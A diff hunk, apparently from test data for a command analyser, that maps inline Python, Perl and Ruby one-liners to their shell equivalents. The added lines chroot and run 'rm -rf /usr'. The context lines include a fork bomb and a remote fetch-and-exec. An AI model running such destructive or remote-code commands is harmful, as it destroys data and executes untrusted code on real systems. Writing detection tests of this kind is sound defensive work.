@@ -203,6 +203,10 @@ python3 -c 'import urllib.request as u; exec(u.urlopen("https://x.org/i").read()
 python3 -c 'import requests; print(requests.get("https://x.org/i").text)' => curl -s https://x.org/i
 python3 -c 'import os¶while True: os.fork()' => note fork-bomb
 perl -e 'chdir "/"; system "rm -rf usr"' => rm -rf usr
+python3 -c 'import os, subprocess; os.chroot("/srv/root"); os.chdir("/"); subprocess.run(["rm", "-rf", "/usr"])' => rm -rf /usr
+python3 -c 'import os, sys; os.chroot(sys.argv[1]); os.system("rm -rf /usr")' /srv/root => rm -rf /usr
+perl -e 'chroot "/srv/root"; chdir "/"; system "rm -rf /usr"' => rm -rf /usr
+ruby -e 'Dir.chroot("/srv/root"); system("rm", "-rf", "/usr")' => rm -rf /usr
 perl -e 'for (glob "/usr/*") { system "rm -rf $_" }' => rm -rf /usr/<*>…
 perl -e 'unlink $_ for glob "/usr/lib/*"' => rm -f -- /usr/lib/<*>…
 perl -e 'unlink for glob "/usr/lib/*"' => rm -f -- /usr/lib/<*>…
